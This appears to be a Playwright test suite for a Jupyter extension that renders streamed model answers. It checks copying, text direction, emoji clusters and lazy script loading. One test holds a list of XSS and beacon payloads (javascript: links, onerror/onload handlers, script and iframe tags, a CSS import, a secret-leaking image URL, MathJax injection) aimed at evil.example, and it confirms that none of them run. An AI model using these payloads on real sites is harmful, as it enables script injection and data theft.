"""Answers while they stream, in a real page: nothing of a model's runs, selections hold, no character comes apart."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from browser import PHONE, WATCH, Notebook, new_context, only_widgets, write_notebook
from harness import JupyterServer
from playwright.sync_api import Browser, Locator, Page, Request, expect
from test_lab import GATE, opened


@pytest.fixture
def answer(server: JupyterServer, page: Page) -> Answer:
    return Answer(server, page)


class Answer:
    """A stream that a test writes, shown by the monitor page."""

    def __init__(self, server: JupyterServer, page: Page) -> None:
        self.server = server
        self.page = page
        self.stream = server.create(kind="answer", title="Answer")
        self.view = page.locator("[data-sse-part=answer]")

    def open(self) -> Answer:
        self.page.goto(f"{self.server.url}?token={self.server.token}#/{self.stream}")
        return self

    def say(self, *pieces: str) -> None:
        lines = [json.dumps({"type": "delta", "text": piece}) for piece in pieces]
        assert self.server.append(self.stream, *lines).status_code == 200

    def end(self) -> None:
        self.server.append(self.stream, '{"type":"done","reason":"stop"}')
        expect(self.page.locator("[data-sse-status=done]").first).to_be_visible()


ATTACKS = r"""
[script](javascript:steal()) [tab](java&Tab;script:steal()) [data](data:text/html,<script>steal()</script>)
<img src="https://evil.example/img" onerror="steal()"> <script>steal()</script> <svg onload=steal()>
<iframe src="https://evil.example/frame"></iframe> <style>@import "https://evil.example/css";</style>
<link rel=stylesheet href=https://evil.example/link> <video src=https://evil.example/v autoplay>
![beacon](https://evil.example/image?secret=1) ![b](//evil.example/relative) [![link](https://evil.example/l)](javascript:steal())
![svg](data:image/svg+xml,<svg/onload=steal()>) <javascript:steal()> ![x][ref]

[ref]: https://evil.example/ref "x' onmouseover='steal()"

```"><img/src=https://evil.example/info/onerror=steal()>
</code></pre><script>steal()</script>
```

```html
<img src=https://evil.example/code onerror=steal()>
```

| <img src=https://evil.example/cell onerror=steal()> |
|---|
| ![cell](https://evil.example/cell2) |

$\href{javascript:steal()}{x}$ $\includegraphics{https://evil.example/tex}$ $\style{background:url(https://evil.example/s)}{x}$
$\text{<img src=https://evil.example/text onerror=steal()>}$ $\class{x}{\id{jupyter-config-data}{y}}$
$$\begin{align} x \label{jupyter-config-data} \end{align}$$

[a link](https://evil.example/link?q=1 "title") www.evil.example
"""


def test_nothing_of_a_model_runs_or_is_sent(page: Page, open_notebook: Any) -> None:
    sent: list[Request] = []
    page.on("request", lambda made: sent.append(made) if "evil.example" in made.url else None)
    page.route("**://*evil.example/**", lambda route: route.fulfill(status=204))
    page.add_init_script("window.stolen = 0; window.steal = () => { window.stolen += 1; };")
    cell = f"""
text = {ATTACKS!r}
def pieces():
    for at in range(0, len(text), 5):
        yield text[at:at + 5]
        time.sleep(0.001)
    wait_for("attacks-seen")
stream(pieces(), title="Attacks");
"""
    notebook: Notebook = open_notebook(GATE, cell)
    notebook.run(0)
    view = notebook.run(1)
    expect(view.get_by_role("link", name="a link")).to_be_visible()
    expect(view.get_by_role("link", name="www.evil.example")).to_be_visible()
    expect(view.locator("math mtable")).to_be_visible()

    def look() -> None:
        for index, element in enumerate(view.locator("[data-sse-part=answer] :is(a, span[title], p, code, td)").all()):
            if index < 60 and element.is_visible():
                element.hover(force=True, timeout=5000)
        assert view.locator("script, iframe, svg, video, link, object, style:not(:first-child), img").count() == 0
        assert view.locator("[id], [onerror], [onload], [onmouseover]").count() == 0
        assert (page.evaluate("window.stolen"), [made.url for made in sent]) == (0, [])

    look()
    opened(notebook, "attacks-seen")
    notebook.wait_idle()
    look()
    links = view.locator("[data-sse-part=answer] a")
    for link in links.all():
        assert re.match(r"https?://", link.get_attribute("href") or "")
        assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
    assert links.count() >= 2
    for dead in view.get_by_text("script", exact=True).all():
        dead.click()
    assert page.evaluate("window.stolen") == 0

    # What a person asks for is loaded, and that alone, without telling where from.
    with page.expect_request("**/image?secret=1") as request:
        view.get_by_role("button", name="Load image: beacon (evil.example)").click()
    assert "referer" not in request.value.all_headers()
    assert {made.url for made in sent} == {"https://evil.example/image?secret=1"}
    assert page.evaluate("window.stolen") == 0


CODE = """def area(r):
    \"\"\"Of a
    circle.\"\"\"
    return 3.14 * r ** 2  # about
"""


def copied(page: Page) -> str:
    text: str = page.evaluate("navigator.clipboard.readText()")
    return text


def test_a_selection_holds_and_copies_while_text_grows(answer: Answer) -> None:
    page = answer.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer.open().say(f"First **words** with $x^2$ in them.\n\n```python\n{CODE}")
    expect(answer.view.locator(".hljs-comment")).to_be_visible()
    expect(answer.view.locator("math")).to_be_visible()
    select = """element => getSelection().setBaseAndExtent(element.querySelector("p").firstChild, 0,
        element.querySelector(".hljs-keyword + .hljs-title").firstChild, 4)"""
    answer.view.evaluate(select)
    for index in range(30):
        answer.say(f"    x = {index}\n")
    answer.say("```\n\nThe **end**.")
    expect(answer.view).to_contain_text("The end")
    page.keyboard.press("Control+c")
    # A formula is copied as its source, the copy button not at all.
    assert copied(page).split() == ["First", "words", "with", "$x^2$", "in", "them.", "def", "area"]
    answer.end()
    assert page.evaluate("getSelection().toString()").split()[-2:] == ["def", "area"]

    answer.view.evaluate("element => getSelection().selectAllChildren(element.querySelector('code'))")
    page.keyboard.press("Control+c")
    assert copied(page).rstrip("\n") == CODE + "\n".join(f"    x = {index}" for index in range(30))


def test_code_is_copied_by_keyboard_while_it_comes_and_the_page_says_so(answer: Answer) -> None:
    page = answer.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer.open().say(f"```python\n{CODE}")
    button = answer.view.get_by_role("button", name="Copy code")
    expect(answer.view.locator(".hljs-comment")).to_be_visible()
    button.focus()
    answer.say("x = 1\n")
    expect(answer.view).to_contain_text("x = 1")
    expect(button).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("[aria-live=polite]", has_text="Copied")).to_have_count(1)
    assert copied(page) == f"{CODE}x = 1"
    answer.end()
    expect(button).to_be_focused()


FAMILY = "👨‍👩‍👧‍👦"
CLUSTERS = f"{FAMILY}🏳️‍🌈👍🏽🇩🇪🇸🇦 é한ก็ مَرْحَبًا 世界 "


def test_no_character_flashes_apart(answer: Answer) -> None:
    page = answer.page
    page.add_init_script(WATCH)
    text = CLUSTERS * 6
    answer.open().say("Text: ")
    expect(answer.view).to_contain_text("Text")
    # As a model's tokens may come: in the middle of a character, though not of a code point.
    answer.say(*text)
    expect(answer.view).to_contain_text(text.strip()[:-1])
    answer.end()
    expect(answer.view).to_contain_text(text.strip())
    torn: list[str] = page.evaluate(
        """whole => {
            const ends = [...new Intl.Segmenter().segment(whole)].map(({index, segment}) => index + segment.length);
            return [...window.ends].filter(text => !ends.includes(text.length));
        }""",
        f"Text: {text}",
    )
    assert page.evaluate(
        "whole => [...window.ends].some(text => text.length > 6 && text.length < whole.length)", text
    ), "it was typed, not shown at once"
    assert torn == []


def test_nothing_is_typed_for_whoever_wants_no_motion(answer: Answer) -> None:
    page = answer.page
    page.emulate_media(reduced_motion="reduce")
    page.add_init_script(WATCH)
    answer.open().say("start")
    expect(answer.view).to_contain_text("star")
    answer.say(" " + "word " * 400 + ".")
    expect(answer.view).to_contain_text("word word")
    lengths: list[int] = page.evaluate("[...window.ends].map(text => text.length)")
    assert len([length for length in lengths if 10 < length < 1990]) == 0, lengths


SCRIPTS = """
# مرحبا

هذه فقرة فيها `code` و **نص** طويل.

- أول
- ثان

> اقتباس

```python
# تعليق
x = "نص"
```

$$x = \\frac{1}{2}$$

这是一个**重点**段落。
"""


def test_each_paragraph_runs_as_its_script_does(answer: Answer) -> None:
    answer.open().say(*re.findall(r".{1,7}", SCRIPTS, re.DOTALL))
    answer.end()

    def direction(selector: str) -> str:
        found: str = answer.view.locator(selector).first.evaluate("element => getComputedStyle(element).direction")
        return found

    for selector in ("h1", "p", "ul", "li", "blockquote"):
        assert direction(selector) == "rtl", selector
    for selector in ("pre", "code", "p code", ".jsse-math", "p:has(.jsse-math) + p"):
        assert direction(selector) == "ltr", selector
    inside = """list => {
        const box = list.getBoundingClientRect(), item = list.firstElementChild.getBoundingClientRect();
        return box.right - item.right > 10 && item.left - box.left < 10;
    }"""
    assert answer.view.locator("ul").evaluate(inside), "bullets are at the right"


def extras(requests: list[str]) -> list[str]:
    return [match[0] for url in requests if (match := re.search(r"(?:highlight|math)\.js", url))]


def test_the_highlighter_and_the_formulas_are_loaded_when_needed_and_once(answer: Answer) -> None:
    page, server = answer.page, answer.server
    asked: list[str] = []
    page.on("request", lambda made: asked.append(made.url))
    problems: list[str] = []
    page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
    answer.open().say("Only **text**, for $5 and $10.\n\n")
    expect(answer.view).to_contain_text("Only text")
    assert extras(asked) == []
    answer.say("```python\nimport os\n```\n\n")
    expect(answer.view.locator(".hljs-keyword")).to_have_text("import")
    assert extras(asked) == ["highlight.js"]
    answer.say("So $x^2$.\n\n```js\nlet x\n```\n")
    expect(answer.view.locator("math")).to_be_visible()
    expect(answer.view.locator(".hljs-keyword")).to_have_count(2)
    answer.end()
    other = Answer(server, page)
    other.say("Again $y$.\n\n```c\nint x;\n```\n")
    page.evaluate(f"location.hash = '#/{other.stream}'")
    expect(other.view.locator("math")).to_be_visible()
    assert extras(asked) == ["highlight.js", "math.js"]
    assert problems == []


ANSWER_CELL = """
import asyncio
async def pieces():
    yield "So $x^2$.\\n\\n```python\\nimport os\\n"
    while not Path("extras-end").exists():
        await asyncio.sleep(0.01)
    yield "```\\n"
await stream(pieces(), title="Extras");
"""


@pytest.mark.parametrize("where", ["labextension", "widget with a server", "widget alone"])
def test_every_page_gets_them(
    where: str, open_notebook: Any, lab: JupyterServer, make_server: Any, page: Page, tmp_path: Path
) -> None:
    asked: list[str] = []
    page.on("request", lambda made: asked.append(made.url))
    if where == "labextension":
        notebook: Notebook = open_notebook(GATE, ANSWER_CELL)
    else:
        off = ["--ServerApp.jpserver_extensions={'jupyter_sse': False}"] if where == "widget alone" else []
        home = tmp_path / "lab"
        server = make_server(only_widgets(home), *off, app="jupyterlab", home=home)
        notebook = Notebook(page, server, write_notebook(server, "extras.ipynb", GATE, ANSWER_CELL)).open()
    notebook.run(0)
    view: Locator = notebook.run(1)
    expect(view.locator(".hljs-keyword")).to_have_text("import")
    expect(view.locator("math")).to_be_visible()
    from_server = [url for url in asked if "/static/jupyter_sse/" in url]
    assert sorted(extras(from_server)) == (["highlight.js", "math.js"] if where == "widget with a server" else [])
    opened(notebook, "extras-end")
    notebook.wait_idle()


def test_without_them_code_and_formulas_are_readable(answer: Answer) -> None:
    answer.page.route(re.compile(r"(?:highlight|math)\.js"), lambda route: route.abort())
    answer.open().say("So $x^2$.\n\n```python\nimport os\n```\n")
    answer.end()
    expect(answer.view.locator("p").first).to_have_text("So $x^2$.")
    expect(answer.view.locator("code")).to_have_text("import os\n")


def test_on_a_narrow_page_what_is_wide_scrolls_by_itself(browser: Browser, server: JupyterServer) -> None:
    context = new_context(browser, **PHONE)
    answer = Answer(server, context.new_page()).open()
    wide = " ".join(["wide"] * 60)
    answer.say(
        f"```python\n# {wide}\n```\n\n$$" + " + ".join(["x"] * 80) + f"$$\n\n| {wide} | b |\n|---|---|\n| 1 | 2 |\n"
    )
    answer.end()
    expect(answer.view.locator("math")).to_be_visible()
    assert answer.page.evaluate("document.documentElement.scrollWidth") == 390
    # There is nothing to hover with.
    expect(answer.view.get_by_role("button", name="Copy code")).to_have_css("opacity", "1")
    context.close()
